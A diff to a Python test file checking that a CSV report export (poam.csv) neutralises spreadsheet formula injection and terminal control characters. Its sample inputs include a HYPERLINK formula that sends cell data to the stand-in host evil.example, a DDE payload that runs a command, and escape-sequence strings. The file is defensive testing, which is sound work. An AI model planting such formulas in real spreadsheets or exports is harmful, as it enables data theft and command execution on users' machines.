@@ -18,6 +18,8 @@ import pytest
 from baseline.report.cisa_form import poam_csv
 from baseline.report.form_view import PoamEntry, TaskRef
 
+from .doc_table import Observations, Row
+
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "+cmd|' /C calc'!A0",
@@ -66,3 +68,29 @@ def test_no_cell_is_a_formula(value: str) -> None:
     assert len(rows[1]) == 11  # every column carries the hostile value
     for cell in _cells_as_read(text):
         assert not cell.lstrip().startswith(_STARTS), (value, cell)
+
+
+def _csv_row() -> Row:
+    # (how the table names the input, the input)
+    samples = (("@SUM(1+1)", "@SUM(1+1)"), ("ok;=1+1", "ok;=1+1"), ("TAB =1+1", "\t=1+1"),
+               ("x ESC ]0;title BEL U+202E", "x\x1b]0;title\x07\u202e"))  # fmt: skip
+    written = [list(csv.reader(io.StringIO(poam_csv(_view(v)))))[1][0] for _, v in samples]
+    for cell in written:
+        assert not any(char in cell for char in RAW), cell
+    pairs = "; ".join(f"{n} as `{w}`" for (n, _), w in zip(samples, written, strict=True))
+    return Row(
+        "Reports and terminal output",
+        "csv-formulas",
+        "a formula (= + - @, after TAB or CR, or after a `;` or `,` for a `;`-locale reader) and "
+        "raw control characters in every poam.csv column",
+        f"written as text: {pairs}",
+    )
+
+
+def all_rows(obs: Observations) -> list[Row]:
+    """The rows of this file (for the docs table)."""
+    return [obs.get("Reports and terminal output", "csv-formulas", _csv_row)]
+
+
+def test_csv_row(observations: Observations) -> None:
+    observations.get("Reports and terminal output", "csv-formulas", _csv_row)
